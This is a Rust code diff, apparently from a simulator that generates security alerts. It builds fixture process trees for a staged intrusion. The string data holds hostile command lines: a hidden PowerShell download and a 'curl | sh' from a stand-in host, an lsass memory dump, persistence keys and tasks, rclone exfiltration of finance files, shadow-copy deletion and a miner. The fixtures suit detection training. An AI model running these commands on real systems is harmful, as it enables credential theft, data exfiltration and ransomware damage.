@@ -82,76 +82,151 @@ pub(crate) static BUNDLER: FileSpec = file(
 );
 pub(crate) static LOCKER: FileSpec = file("encsvc.exe", "C:\\PerfLogs", None, 902_144);
 
-/// A process start: image, parent and the command line around a part that varies.
+/// One process: every place that shows it agrees on its id, start and command line.
 #[derive(Debug)]
 pub(crate) struct Command {
     pub(crate) image: &'static FileSpec,
-    pub(crate) parent: &'static FileSpec,
+    pub(crate) parent: Option<&'static Command>,
     pub(crate) line: &'static str,
+    /// When it starts, in minutes after the scene opens.
+    pub(crate) minute: i64,
+    /// Tells processes apart.
+    pub(crate) mark: u64,
 }
 
-const fn command(image: &'static FileSpec, parent: &'static FileSpec, line: &'static str) -> Command {
-    Command { image, parent, line }
+const fn command(
+    image: &'static FileSpec,
+    parent: Option<&'static Command>,
+    minute: i64,
+    line: &'static str,
+) -> Command {
+    let (mut mark, mut at, bytes) = (0xCBF2_9CE4_8422_2325_u64, 0, line.as_bytes());
+    while at < bytes.len() {
+        mark = (mark ^ bytes[at] as u64).wrapping_mul(0x0000_0100_0000_01B3);
+        at += 1;
+    }
+    Command { image, parent, line, minute, mark }
 }
 
-pub(crate) static DOWNLOAD: [Command; 2] = [
-    command(
-        &POWERSHELL,
-        &WINWORD,
-        "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"Invoke-WebRequest -Uri 'https://cdn-telemetry.example/l/ledger_update.dll' -OutFile $env:ProgramData\\LedgerSync\\ledger_update.dll\"",
-    ),
-    command(&RUNDLL, &POWERSHELL, "rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain"),
-];
-pub(crate) static DUMP: [Command; 2] = [
-    command(
-        &RUNDLL,
-        &CMD,
-        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\LedgerSync\\l.dmp full",
-    ),
-    command(&CMD, &RUNDLL, "cmd.exe /c \"tasklist /fi \"imagename eq lsass.exe\"\""),
-];
-pub(crate) static PERSIST: [Command; 2] = [
-    command(
-        &REG,
-        &RUNDLL,
-        "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v LedgerSync /t REG_SZ /d \"rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain\" /f",
-    ),
-    command(
-        &SCHTASKS,
-        &CMD,
-        "schtasks.exe /create /tn \\LedgerSync /tr \"rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain\" /sc onlogon /rl highest /f",
-    ),
-];
-pub(crate) static REMOTE: [Command; 2] = [
-    command(&TUNNEL, &SERVICES, "C:\\Windows\\Temp\\ledgersvc.exe --pipe \\\\.\\pipe\\ledger --wait"),
-    command(&CMD, &TUNNEL, "cmd.exe /c whoami /groups & net group \"Domain Admins\" /domain"),
-];
-pub(crate) static STAGE: [Command; 2] = [
-    command(
-        &ARCHIVER,
-        &TUNNEL,
-        "7z.exe a -mx1 -v512m C:\\ProgramData\\LedgerSync\\out\\q1-forecast.7z \\\\srv-fin-0008\\finance\\board\\*.xlsx",
-    ),
-    command(
-        &UPLOADER,
-        &CMD,
-        "rclone.exe copy C:\\ProgramData\\LedgerSync\\out box:in --transfers 8 --config C:\\ProgramData\\LedgerSync\\r.conf",
-    ),
-];
-pub(crate) static ENCRYPT: [Command; 2] = [
-    command(&VSSADMIN, &LOCKER, "vssadmin.exe delete shadows /all /quiet"),
-    command(&LOCKER, &SERVICES, "C:\\PerfLogs\\encsvc.exe -paths C:\\Shares -mode fast"),
-];
-pub(crate) static SHELL: [Command; 2] = [
-    command(
-        &MINER,
-        &BASH,
-        "/var/tmp/.cache/kthreadx -o stratum+tcp://pool.sync-relay.example:3333 -u w1 --donate-level 1",
-    ),
-    command(&BASH, &BASH, "bash -c \"curl -fsSL http://cdn-telemetry.example/i.sh | sh\""),
-];
-pub(crate) static USUAL: [Command; 3] = [
-    command(&POWERSHELL, &EXPLORER, "powershell.exe -File \"C:\\Tools\\Inventory\\Collect-Inventory.ps1\" -Site Oslo"),
-    command(&CMD, &EXPLORER, "cmd.exe /c \"net use S: \\\\srv-eng-0010\\share\""),
-    command(&BUNDLER, &OUTLOOK, "\"C:\\Users\\Public\\Downloads\\FreePdfSetup.exe\" /S /channel=mail"),
-];
+static SHELL_WINDOW: Command = command(&EXPLORER, None, -190, "C:\\Windows\\Explorer.EXE");
+static SERVICE_MANAGER: Command = command(&SERVICES, None, -9000, "C:\\Windows\\system32\\services.exe");
+static MAIL_CLIENT: Command = command(&OUTLOOK, Some(&SHELL_WINDOW), -60, "OUTLOOK.EXE");
+static DOCUMENT: Command =
+    command(&WINWORD, Some(&MAIL_CLIENT), 50, "WINWORD.EXE /n \"C:\\Users\\Public\\Downloads\\Remittance_0302.docm\"");
+static FETCH: Command = command(
+    &POWERSHELL,
+    Some(&DOCUMENT),
+    56,
+    "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -Command \"Invoke-WebRequest -Uri 'https://cdn-telemetry.example/l/ledger_update.dll' -OutFile $env:ProgramData\\LedgerSync\\ledger_update.dll\"",
+);
+static LOAD: Command =
+    command(&RUNDLL, Some(&FETCH), 57, "rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain");
+static ADD_KEY: Command = command(
+    &REG,
+    Some(&LOAD),
+    70,
+    "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v LedgerSync /t REG_SZ /d \"rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain\" /f",
+);
+static ADD_TASK: Command = command(
+    &SCHTASKS,
+    Some(&LOAD),
+    71,
+    "schtasks.exe /create /tn \\LedgerSync /tr \"rundll32.exe C:\\ProgramData\\LedgerSync\\ledger_update.dll,SyncMain\" /sc onlogon /rl highest /f",
+);
+static FIND_STORE: Command = command(&CMD, Some(&LOAD), 97, "cmd.exe /c \"tasklist /fi \"imagename eq lsass.exe\"\"");
+static DUMP_STORE: Command = command(
+    &RUNDLL,
+    Some(&LOAD),
+    98,
+    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\LedgerSync\\l.dmp full",
+);
+static REMOTE_PIPE: Command =
+    command(&TUNNEL, Some(&SERVICE_MANAGER), 126, "C:\\Windows\\Temp\\ledgersvc.exe --pipe \\\\.\\pipe\\ledger --wait");
+static WHO_AM_I: Command =
+    command(&CMD, Some(&REMOTE_PIPE), 127, "cmd.exe /c whoami /groups & net group \"Domain Admins\" /domain");
+static PACK: Command = command(
+    &ARCHIVER,
+    Some(&REMOTE_PIPE),
+    140,
+    "7z.exe a -mx1 -v512m C:\\ProgramData\\LedgerSync\\out\\q1-forecast.7z \\\\srv-fin-0008\\finance\\board\\*.xlsx",
+);
+static UPLOAD: Command = command(
+    &UPLOADER,
+    Some(&REMOTE_PIPE),
+    152,
+    "rclone.exe copy C:\\ProgramData\\LedgerSync\\out box:in --transfers 8 --config C:\\ProgramData\\LedgerSync\\r.conf",
+);
+static LOCK: Command =
+    command(&LOCKER, Some(&SERVICE_MANAGER), 60, "C:\\PerfLogs\\encsvc.exe -paths C:\\Shares -mode fast");
+static DELETE_COPIES: Command = command(&VSSADMIN, Some(&LOCK), 61, "vssadmin.exe delete shadows /all /quiet");
+static WEB_SHELL: Command = command(&BASH, None, 40, "bash -c \"curl -fsSL http://cdn-telemetry.example/i.sh | sh\"");
+static MINE: Command = command(
+    &MINER,
+    Some(&WEB_SHELL),
+    42,
+    "/var/tmp/.cache/kthreadx -o stratum+tcp://pool.sync-relay.example:3333 -u w1 --donate-level 1",
+);
+static INVENTORY: Command = command(
+    &POWERSHELL,
+    Some(&SHELL_WINDOW),
+    20,
+    "powershell.exe -File \"C:\\Tools\\Inventory\\Collect-Inventory.ps1\" -Site Oslo",
+);
+static MAP_DRIVE: Command = command(&CMD, Some(&SHELL_WINDOW), 22, "cmd.exe /c \"net use S: \\\\srv-eng-0010\\share\"");
+static INSTALLER: Command =
+    command(&BUNDLER, Some(&MAIL_CLIENT), 25, "\"C:\\Users\\Public\\Downloads\\FreePdfSetup.exe\" /S /channel=mail");
+
+/// Which processes a detection shows, and what else belongs to them.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Tool {
+    Download,
+    Dump,
+    Persist,
+    Remote,
+    Stage,
+    Encrypt,
+    Shell,
+    Usual,
+    /// No machine is involved.
+    None,
+}
+
+impl Tool {
+    /// Process number `round` of an alert.
+    pub(crate) fn command(self, round: u32) -> &'static Command {
+        let pick = |of: [&'static Command; 2]| of[round as usize % 2];
+        match self {
+            Tool::Download => pick([&FETCH, &LOAD]),
+            Tool::Dump => pick([&DUMP_STORE, &FIND_STORE]),
+            Tool::Persist => pick([&ADD_KEY, &ADD_TASK]),
+            Tool::Remote => pick([&REMOTE_PIPE, &WHO_AM_I]),
+            Tool::Stage => pick([&PACK, &UPLOAD]),
+            Tool::Encrypt => pick([&DELETE_COPIES, &LOCK]),
+            Tool::Shell => pick([&MINE, &WEB_SHELL]),
+            Tool::Usual | Tool::None => [&INSTALLER, &INVENTORY, &MAP_DRIVE][round as usize % 3],
+        }
+    }
+
+    /// File number `round` of an alert.
+    pub(crate) fn file(self, round: u32) -> &'static FileSpec {
+        match (self, round) {
+            (Tool::Download | Tool::Persist, 0) => &LOADER,
+            (Tool::Remote, 0) => &TUNNEL,
+            (Tool::Stage, 0) => &ARCHIVE,
+            (Tool::Stage, 1) | (Tool::None, 1..) => &WORKBOOK,
+            (Tool::None, 0) => &LURE,
+            (Tool::Encrypt, 0) => &LOCKER,
+            (tool, round) => tool.command(round).image,
+        }
+    }
+
+    /// The domain that its programs speak to, and the path there.
+    pub(crate) fn target(self) -> Option<(&'static str, &'static str)> {
+        match self {
+            Tool::Download => Some(("cdn-telemetry.example", "/l/ledger_update.dll")),
+            Tool::Shell => Some(("cdn-telemetry.example", "/i.sh")),
+            Tool::Stage => Some(("upload.northbox.example", "/share/in")),
+            _ => None,
+        }
+    }
+}
